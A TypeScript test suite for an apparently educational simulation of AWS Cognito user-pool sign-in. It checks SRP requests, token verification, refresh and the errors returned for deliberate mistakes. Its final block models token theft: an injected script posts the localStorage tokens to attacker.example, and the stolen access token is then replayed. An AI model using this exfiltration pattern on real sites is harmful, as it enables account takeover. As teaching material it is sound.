import { beforeAll, describe, expect, it } from 'vitest';
import { createCloud, generateUserPoolKeys, type UserPoolKeys } from '$lib/cloud';
import type { FlowMistakeDefinition, FlowRun } from '../types';
import { definition, type UserPoolSignInMistakeId } from './definition';
import { run as runFlow } from './run';

const userPoolSignInMistakes = definition.mistakes;
const runUserPoolSignIn = (options: {
	cloud: ReturnType<typeof createCloud>;
	user?: string;
	mistakes?: readonly string[];
}) =>
	runFlow({
		cloud: options.cloud,
		choices: options.user === undefined ? {} : { user: options.user },
		mistakes: [...(options.mistakes ?? [])]
	});

const pinnedAt = Date.UTC(2026, 10, 3, 9, 5, 7);
let keys: UserPoolKeys;
beforeAll(async () => {
	keys = await generateUserPoolKeys();
});

const cloud = () => createCloud(undefined, { clock: { fixed: pinnedAt }, userPoolKeys: keys });

const summary = (run: FlowRun) =>
	run.steps.map((s) => [s.id, s.outcome, s.exchanges.map((e) => e.label)] as const);

describe('runUserPoolSignIn', () => {
	let alice: FlowRun;
	beforeAll(async () => {
		alice = await runUserPoolSignIn({ cloud: cloud(), user: 'alice' });
	});

	it("records alice's sign-in as one step per state, with the exchanges each made", () => {
		expect(alice).toMatchObject({ flowId: 'user-pool-sign-in', user: 'alice', status: 'done' });
		expect(alice.error).toBeUndefined();
		expect(summary(alice)).toEqual([
			['initiate-auth', 'ok', ['InitiateAuth']],
			['password-verifier', 'ok', ['RespondToAuthChallenge']],
			['verify-id-token', 'ok', ['GET /us-east-1_FlowLab01/.well-known/jwks.json']],
			['get-user', 'ok', ['GetUser']],
			['access-token-expires', 'ok', []],
			['refresh-tokens', 'ok', ['InitiateAuth']],
			['global-sign-out', 'ok', ['GlobalSignOut']]
		]);
		expect(alice.steps.map((s) => s.index)).toEqual([0, 1, 2, 3, 4, 5, 6]);
		expect(alice.steps.map((s) => s.title)).toContain('Prove the password');
		expect(alice.steps.filter((s) => s.actor).map((s) => [s.id, s.actor])).toEqual([
			['verify-id-token', 'app'],
			['access-token-expires', 'app']
		]);
	});

	it('stamps each step with the simulated time at its end; an hour passes at expiry', () => {
		const hourLater = pinnedAt + 3_601_000;
		expect(alice.steps.map((s) => s.at)).toEqual([
			pinnedAt,
			pinnedAt,
			pinnedAt,
			pinnedAt,
			hourLater,
			hourLater,
			hourLater
		]);
	});

	it('captions each step from the values of the run', () => {
		const [initiate, verifier, verify, getUser, expires, refresh] = alice.steps;
		const challenge = JSON.parse(initiate!.exchanges[0]!.response.body) as {
			ChallengeParameters: { SALT: string; SRP_B: string };
		};
		const { SALT, SRP_B } = challenge.ChallengeParameters;
		const sent = JSON.parse(initiate!.exchanges[0]!.request.body) as {
			AuthParameters: { SRP_A: string };
		};
		expect(initiate!.caption).toBe(
			`The app sends USERNAME alice and SRP_A (${sent.AuthParameters.SRP_A.length} hex digits), never the password. ` +
				`The pool answers with a PASSWORD_VERIFIER challenge: salt ${SALT.slice(0, 4)}…, SRP_B (${SRP_B.length} hex digits) and a SECRET_BLOCK.`
		);
		expect(verifier!.caption).toBe(
			'The app signs the SECRET_BLOCK and TIMESTAMP "Tue Nov 3 09:05:07 UTC 2026" with a key derived from the password and USER_ID_FOR_SRP alice. ' +
				'The password is right; the pool issues an ID token, an access token (valid 3600 s) and a refresh token.'
		);
		expect(verify!.caption).toMatch(
			/^The app fetches the pool's JWKS \(2 keys\) and checks the ID token\. Its kid .{4}… is in the JWKS, the RS256 signature is valid, exp 10:05:07 UTC has not passed, iss and aud \(3n4flowlab5webclient6a7b8c\) are as expected and token_use is id: only now does the app believe this is alice\.$/
		);
		expect(getUser!.caption).toBe(
			"The app calls GetUser with the access token. The pool returns alice's 4 attributes (sub, email, email_verified, name)."
		);
		expect(expires!.caption).toBe(
			"The clock moves 1 h 0 min 1 s to 10:05:08 UTC, past the access token's exp (10:05:07 UTC). " +
				'The app read exp itself, so it sends nothing with the dead token: it refreshes.'
		);
		expect(refresh!.caption).toBe(
			'The app sends REFRESH_TOKEN_AUTH with the refresh token. ' +
				'The pool returns a new ID token and access token (valid 3600 s) and no RefreshToken: the app keeps the one it has.'
		);
	});

	it('sends SRP sign-in as amazon-cognito-identity-js does', () => {
		const [initiate, verifier] = alice.steps.map((s) => s.exchanges[0]!);
		for (const exchange of [initiate!, verifier!]) {
			expect(exchange.request.method).toBe('POST');
			expect(exchange.request.url).toBe('https://cognito-idp.us-east-1.amazonaws.com/');
			expect(exchange.request.headers).toContainEqual([
				'content-type',
				'application/x-amz-json-1.1'
			]);
		}
		expect(initiate!.request.headers).toContainEqual([
			'x-amz-target',
			'AWSCognitoIdentityProviderService.InitiateAuth'
		]);
		const challenge = JSON.parse(initiate!.response.body) as {
			Session?: string;
			ChallengeParameters: { SECRET_BLOCK: string; USER_ID_FOR_SRP: string };
		};
		expect(JSON.parse(initiate!.request.body)).toEqual({
			AuthFlow: 'USER_SRP_AUTH',
			ClientId: '3n4flowlab5webclient6a7b8c',
			AuthParameters: { USERNAME: 'alice', SRP_A: expect.stringMatching(/^[0-9a-f]{760,768}$/) }
		});
		expect(JSON.parse(verifier!.request.body)).toEqual({
			ChallengeName: 'PASSWORD_VERIFIER',
			ClientId: '3n4flowlab5webclient6a7b8c',
			ChallengeResponses: {
				USERNAME: challenge.ChallengeParameters.USER_ID_FOR_SRP,
				PASSWORD_CLAIM_SECRET_BLOCK: challenge.ChallengeParameters.SECRET_BLOCK,
				TIMESTAMP: 'Tue Nov 3 09:05:07 UTC 2026',
				PASSWORD_CLAIM_SIGNATURE: expect.stringMatching(/^[A-Za-z0-9+/]{43}=$/)
			},
			...(challenge.Session !== undefined && { Session: challenge.Session })
		});
	});

	it('keeps the refresh token the pool did not replace', () => {
		const refresh = alice.steps.find((s) => s.id === 'refresh-tokens')!.exchanges[0]!;
		const verifier = alice.steps.find((s) => s.id === 'password-verifier')!.exchanges[0]!;
		const issued = JSON.parse(verifier.response.body) as {
			AuthenticationResult: { RefreshToken: string };
		};
		const answer = JSON.parse(refresh.response.body) as { AuthenticationResult: object };
		expect(answer.AuthenticationResult).not.toHaveProperty('RefreshToken');
		expect(JSON.parse(refresh.request.body)).toEqual({
			AuthFlow: 'REFRESH_TOKEN_AUTH',
			ClientId: '3n4flowlab5webclient6a7b8c',
			AuthParameters: { REFRESH_TOKEN: issued.AuthenticationResult.RefreshToken }
		});
	});

	it('is plain data: a JSON round trip and structuredClone give the same run', () => {
		expect(JSON.parse(JSON.stringify(alice))).toEqual(alice);
		expect(structuredClone(alice)).toEqual(alice);
	});

	// Each mistake alone: the run fails at the mistake's own step with the pool's real answer
	// (except the one that fails nothing: see the next describe).
	type Refused = Exclude<UserPoolSignInMistakeId, 'tokens-in-local-storage'>;
	const refused = userPoolSignInMistakes.filter(
		(m): m is Extract<(typeof userPoolSignInMistakes)[number], { id: Refused }> =>
			(m as FlowMistakeDefinition).outcome !== 'ok'
	);
	const expected: Record<Refused, { user: string; error: string }> = {
		'wrong-password': {
			user: 'alice',
			error: 'NotAuthorizedException: Incorrect username or password.'
		},
		'unconfirmed-user': {
			user: 'dave',
			error: 'UserNotConfirmedException: User is not confirmed.'
		},
		'late-password-verifier': {
			user: 'alice',
			error: 'NotAuthorizedException: Invalid session for the user, session is expired.'
		},
		'wrong-mfa-code': {
			user: 'bob',
			error: 'CodeMismatchException: Invalid code or auth state for the user.'
		},
		'id-token-to-getuser': { user: 'alice', error: 'NotAuthorizedException: Invalid Access Token' },
		'api-token-at-userinfo': {
			user: 'alice',
			error:
				'invalid_token: Access token is expired, disabled, or deleted, or the user has globally signed out.'
		},
		'expired-access-token': {
			user: 'alice',
			error: 'NotAuthorizedException: Access Token has expired'
		},
		'refresh-after-sign-out': {
			user: 'alice',
			error: 'NotAuthorizedException: Refresh Token has been revoked'
		},
		'missing-secret-hash': {
			user: 'alice',
			error:
				'NotAuthorizedException: Client 5s6flowlab7server8client9d is configured with secret but SECRET_HASH was not received'
		}
	};

	it('expects an error for every mistake that is refused, and only for those', () => {
		expect(refused.map((m) => m.id).sort()).toEqual(Object.keys(expected).sort());
	});

	// userInfo answers in WWW-Authenticate, not in an AWS error body: its own test follows.
	const inAwsJson = refused.filter((m) => m.id !== 'api-token-at-userinfo');
	it.each(inAwsJson.map((m) => [m.id, m] as const))(
		'%s fails at its step with the error the pool answers',
		async (id, mistake) => {
			const run = await runUserPoolSignIn({ cloud: cloud(), mistakes: [id] });
			const last = run.steps.at(-1)!;
			expect(run).toMatchObject({ status: 'failed', mistakes: [id], ...expected[id] });
			expect(last.id).toBe(mistake.step);
			expect(last.outcome).toBe('error');
			expect(run.steps.slice(0, -1).every((s) => s.outcome === 'ok')).toBe(true);
			const refused = last.exchanges.at(-1)!;
			expect(refused.response.status).toBe(400);
			const body = JSON.parse(refused.response.body) as { __type: string; message: string };
			expect(`${body.__type}: ${body.message}`).toBe(expected[id].error);
			expect(last.caption.endsWith(`The pool refuses: ${expected[id].error}`)).toBe(true);
		}
	);

	it("asks managed login's userInfo with the API access token and is refused 401 in WWW-Authenticate", async () => {
		const run = await runUserPoolSignIn({ cloud: cloud(), mistakes: ['api-token-at-userinfo'] });
		expect(run).toMatchObject({ status: 'failed', ...expected['api-token-at-userinfo'] });
		expect(summary(run)).toEqual([
			['initiate-auth', 'ok', ['InitiateAuth']],
			['password-verifier', 'ok', ['RespondToAuthChallenge']],
			['verify-id-token', 'ok', ['GET /us-east-1_FlowLab01/.well-known/jwks.json']],
			['get-user', 'error', ['GET /oauth2/userInfo']]
		]);
		const issued = JSON.parse(run.steps[1]!.exchanges[0]!.response.body) as {
			AuthenticationResult: { AccessToken: string };
		};
		const asked = run.steps.at(-1)!.exchanges[0]!;
		expect([asked.from, asked.to, asked.request.method, asked.request.url]).toEqual([
			'app',
			'managed-login',
			'GET',
			'https://flow-lab.auth.us-east-1.amazoncognito.com/oauth2/userInfo'
		]);
		expect(asked.request.headers).toContainEqual([
			'authorization',
			`Bearer ${issued.AuthenticationResult.AccessToken}`
		]);
		expect(asked.response.status).toBe(401);
		expect(asked.response.body).toBe('');
		expect(asked.response.headers).toContainEqual([
			'www-authenticate',
			'error="invalid_token", error_description="Access token is expired, disabled, or deleted, or the user has globally signed out."'
		]);
		expect(run.steps.at(-1)!.caption).toBe(
			"Instead of GetUser, the app calls managed login's GET /oauth2/userInfo on flow-lab.auth.us-east-1.amazoncognito.com with the access token as Authorization: Bearer; its scope is aws.cognito.signin.user.admin, without openid. " +
				'Managed login answers 401 and refuses: invalid_token: Access token is expired, disabled, or deleted, or the user has globally signed out.'
		);
	});

	it('sends the ID token to userInfo when the app makes both get-user mistakes, and is refused alike', async () => {
		const run = await runUserPoolSignIn({
			cloud: cloud(),
			mistakes: ['id-token-to-getuser', 'api-token-at-userinfo']
		});
		expect(run.error).toBe(expected['api-token-at-userinfo'].error);
		expect(run.steps.at(-1)!.caption).toMatch(
			/^Instead of GetUser, the app calls managed login's GET \/oauth2\/userInfo on \S+ with the ID token as Authorization: Bearer; it has no scope\. /
		);
	});

	it('answers PASSWORD_VERIFIER 30 s late, stamped from the same clock, and says so', async () => {
		const run = await runUserPoolSignIn({ cloud: cloud(), mistakes: ['late-password-verifier'] });
		const [initiate, verifier] = run.steps;
		expect(run.steps.map((s) => s.at)).toEqual([pinnedAt, pinnedAt + 30_000]);
		const sent = JSON.parse(verifier!.exchanges[0]!.request.body) as {
			ChallengeResponses: { TIMESTAMP: string };
		};
		// The TIMESTAMP agrees with the pool's clock: it is the challenge's age that is refused
		expect(sent.ChallengeResponses.TIMESTAMP).toBe('Tue Nov 3 09:05:37 UTC 2026');
		expect(verifier!.exchanges[0]!.at - initiate!.at).toBe(30_000);
		expect(verifier!.caption).toBe(
			'The app started SRP with the username alone, so it waits for the user to finish typing the password and answers 30 s after the challenge arrived: ' +
				'it signs the SECRET_BLOCK and TIMESTAMP "Tue Nov 3 09:05:37 UTC 2026" with a key derived from the password and USER_ID_FOR_SRP alice. ' +
				'The pool refuses: NotAuthorizedException: Invalid session for the user, session is expired.'
		);
	});

	it('refuses a late answer for its age before it looks at the password', async () => {
		const run = await runUserPoolSignIn({
			cloud: cloud(),
			mistakes: ['late-password-verifier', 'wrong-password']
		});
		expect(run.steps.at(-1)!.id).toBe('password-verifier');
		expect(run.error).toBe(
			'NotAuthorizedException: Invalid session for the user, session is expired.'
		);
	});

	it.each([
		[['wrong-password', 'missing-secret-hash'], 'initiate-auth'],
		[['expired-access-token', 'id-token-to-getuser'], 'get-user'],
		[['wrong-mfa-code', 'unconfirmed-user'], 'password-verifier'],
		[['refresh-after-sign-out', 'wrong-mfa-code'], 'software-token-mfa']
	] as const)('with %j the earliest step wins: the run fails at %s', async (mistakes, step) => {
		const run = await runUserPoolSignIn({ cloud: cloud(), mistakes });
		expect(run.status).toBe('failed');
		expect(run.steps.at(-1)!.id).toBe(step);
	});

	it('signs in as the user a mistake needs, whoever was picked', async () => {
		const run = await runUserPoolSignIn({
			cloud: cloud(),
			user: 'carol',
			mistakes: ['wrong-mfa-code']
		});
		expect(run.user).toBe('bob');
	});

	it('refuses a user the scenario does not have', async () => {
		await expect(runUserPoolSignIn({ cloud: cloud(), user: 'mallory' })).rejects.toThrow(
			new TypeError('The scenario has no user "mallory"')
		);
	});
});

describe('runUserPoolSignIn with the tokens in localStorage', () => {
	const prefix = 'CognitoIdentityServiceProvider.3n4flowlab5webclient6a7b8c';
	let run: FlowRun;
	let collected: readonly { body: string }[];
	beforeAll(async () => {
		const leaky = cloud();
		run = await runUserPoolSignIn({ cloud: leaky, mistakes: ['tokens-in-local-storage'] });
		collected = leaky.collector.received;
	});
	const step = (id: string) => run.steps.find((s) => s.id === id)!;

	it('adds two steps after GetUser and still completes: nothing refuses anything', () => {
		expect(run).toMatchObject({ status: 'done', user: 'alice' });
		expect(summary(run)).toEqual([
			['initiate-auth', 'ok', ['InitiateAuth']],
			['password-verifier', 'ok', ['RespondToAuthChallenge']],
			['verify-id-token', 'ok', ['GET /us-east-1_FlowLab01/.well-known/jwks.json']],
			['get-user', 'ok', ['GetUser']],
			['steal-tokens', 'ok', ['POST /tokens']],
			['attacker-get-user', 'ok', ['GetUser']],
			['access-token-expires', 'ok', []],
			['refresh-tokens', 'ok', ['InitiateAuth']],
			['global-sign-out', 'ok', ['GlobalSignOut']]
		]);
	});

	it("posts, from the page, the keys amazon-cognito-identity-js wrote, holding this run's tokens", () => {
		const issued = JSON.parse(step('password-verifier').exchanges[0]!.response.body) as {
			AuthenticationResult: { IdToken: string; AccessToken: string; RefreshToken: string };
		};
		const { IdToken, AccessToken, RefreshToken } = issued.AuthenticationResult;
		const theft = step('steal-tokens').exchanges[0]!;
		expect(theft).toMatchObject({ from: 'app', to: 'attacker' });
		expect(theft.request).toMatchObject({
			method: 'POST',
			url: 'https://attacker.example/tokens',
			headers: [['content-type', 'text/plain;charset=UTF-8']]
		});
		expect(theft.response).toMatchObject({ status: 204, statusText: 'No Content', body: '' });
		const stolen = {
			[`${prefix}.alice.idToken`]: IdToken,
			[`${prefix}.alice.accessToken`]: AccessToken,
			[`${prefix}.alice.refreshToken`]: RefreshToken,
			[`${prefix}.alice.clockDrift`]: '0',
			[`${prefix}.LastAuthUser`]: 'alice'
		};
		expect(JSON.parse(theft.request.body)).toEqual(stolen);
		expect(Object.keys(JSON.parse(theft.request.body) as object)).toEqual(Object.keys(stolen));
		expect(collected.map((c) => c.body)).toEqual([theft.request.body]);
	});

	it("gets the victim's profile from the pool for the attacker, as it did for the app", () => {
		const app = step('get-user').exchanges[0]!;
		const attacker = step('attacker-get-user').exchanges[0]!;
		expect(attacker).toMatchObject({ from: 'attacker', to: 'user-pool', label: 'GetUser' });
		expect(attacker.request.body).toBe(app.request.body);
		expect(attacker.response.status).toBe(200);
		expect(attacker.response.body).toBe(app.response.body);
		expect(JSON.parse(attacker.response.body)).toMatchObject({ Username: 'alice' });
	});

	it('captions the theft and the replay from the values of the run', () => {
		expect(step('steal-tokens').caption).toBe(
			'A script injected into the page reads localStorage: 5 keys amazon-cognito-identity-js wrote there ' +
				'(….alice.idToken, ….alice.accessToken, ….alice.refreshToken, ….alice.clockDrift, ….LastAuthUser), ' +
				"alice's three tokens among them. It posts them to attacker.example. " +
				'The collector answers 204: the attacker now holds the ID, access and refresh tokens.'
		);
		expect(step('attacker-get-user').caption).toBe(
			'The attacker calls GetUser from their own machine, with the stolen access token. ' +
				"Nothing in it says who is asking, and the pool answers as it answered the app: alice's 4 attributes, " +
				'email alice@example.com among them. Whoever holds a bearer token is the user.'
		);
	});
});
